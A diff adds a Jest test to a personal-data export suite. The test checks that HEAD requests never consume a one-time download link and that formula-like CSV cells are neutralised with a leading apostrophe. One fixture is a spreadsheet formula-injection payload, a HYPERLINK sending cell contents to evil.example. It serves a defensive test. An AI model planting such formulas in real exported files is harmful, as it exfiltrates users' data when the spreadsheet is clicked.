@@ -252,6 +252,38 @@ describe('personal data rights: terms, change of password, deletion, download my
       expect((await t.gql(REQUEST, {}, user.token)).data.requestDataExport.status).toBe('PENDING');
     });
 
+    it('HEAD never consumes the one-time download (405, Allow: GET); CSV cells that start like a formula get a leading apostrophe, JSON keeps the raw text', async () => {
+      const user = await t.register('Camille Tableur');
+      const stranger = await t.register('Autrice malveillante');
+      const hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"Cliquez ici")';
+      const strangerProposal = await propose(stranger.token, hyperlink);
+      await t.gql(`mutation($id: ID!) { supportProposal(proposalId: $id) { id } }`, { id: strangerProposal }, user.token);
+      const titles = ['@SUM(1+9) une proposition', '+33 1 23 45 67 89 à rappeler', '-2 points pour la santé numérique'];
+      for (const title of titles) await propose(user.token, title);
+
+      const { id } = (await t.gql(REQUEST, {}, user.token)).data.requestDataExport;
+      await worker.idle();
+      const path = `/exports/my-data/${id}.zip`;
+      for (const token of [user.token, undefined]) {
+        const head = await fetch(`${t.baseUrl}${path}`, { method: 'HEAD', headers: token ? { authorization: `Bearer ${token}` } : {} });
+        expect([head.status, head.headers.get('allow')]).toEqual([405, 'GET']);
+      }
+      expect((await t.gql(EXPORTS, {}, user.token)).data.myDataExports[0]).toMatchObject({ id, status: 'READY' });
+
+      const ok = await download(path, user.token);
+      expect(ok.status).toBe(200);
+      const zip = await JSZip.loadAsync(Buffer.from(await ok.arrayBuffer()));
+      const supportsCsv = await zip.file('supports.csv')!.async('string');
+      expect(supportsCsv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""Cliquez ici"")"`);
+      const proposalsCsv = await zip.file('proposals.csv')!.async('string');
+      for (const title of titles) expect(proposalsCsv).toContain(`'${title}`);
+      expect(proposalsCsv).not.toMatch(/(^|,)[=+@-]/m);
+      const supports = JSON.parse(await zip.file('supports.json')!.async('string'));
+      expect(supports.map((s: { title: string }) => s.title)).toEqual([hyperlink]);
+      const proposals = JSON.parse(await zip.file('proposals.json')!.async('string'));
+      expect(proposals.map((p: { title: string }) => p.title).sort()).toEqual([...titles].sort());
+    });
+
     it('an export not downloaded within 7 days expires: 410, and its file is deleted', async () => {
       const user = await t.register('Retardataire');
       const { id } = (await t.gql(REQUEST, {}, user.token)).data.requestDataExport;
